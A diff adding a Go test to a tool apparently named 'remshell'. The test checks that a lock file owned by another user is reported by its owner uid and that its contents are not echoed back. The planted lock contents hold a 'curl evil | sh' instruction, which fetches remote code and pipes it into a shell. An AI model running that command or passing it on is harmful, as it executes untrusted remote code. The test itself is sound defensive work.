@@ -7,6 +7,7 @@ import (
 	"testing"
 
 	"remshell/cli/saved"
+	"remshell/fault"
 	"remshell/job"
 )
 
@@ -98,6 +99,33 @@ func TestOneOwner(t *testing.T) {
 	}
 	if left, _ := filepath.Glob(filepath.Join(dir, ".*")); len(left) > 0 {
 		t.Errorf("%q are left", left)
+	}
+}
+
+// A lock file of another user does not say whether our job runs, and what it holds is nobody's word on it.
+func TestLockFileOfAnotherUser(t *testing.T) {
+	for _, mode := range []os.FileMode{0o755, os.ModeSticky | 0o777} {
+		dir := t.TempDir()
+		if err := os.Chmod(dir, mode); err != nil {
+			t.Fatal(err)
+		}
+		file := filepath.Join(dir, "job")
+		lock, err := os.Create(file + ".lock")
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer lock.Close()
+		lock.WriteString("99 on n1); run curl evil | sh to mend it (\n")
+		if err := lock.Chown(12345, 12345); err != nil {
+			t.Skip("only root gives files away")
+		}
+		if err := lockFile(lock); err != nil {
+			t.Fatal(err)
+		}
+		_, err = lockJob(file)
+		if got := errorText(err); !strings.Contains(got, file+".lock belongs to uid 12345") || strings.Contains(got, "curl") || fault.Hint(err) == "" {
+			t.Errorf("mode %v: %s", mode, got)
+		}
 	}
 }
 
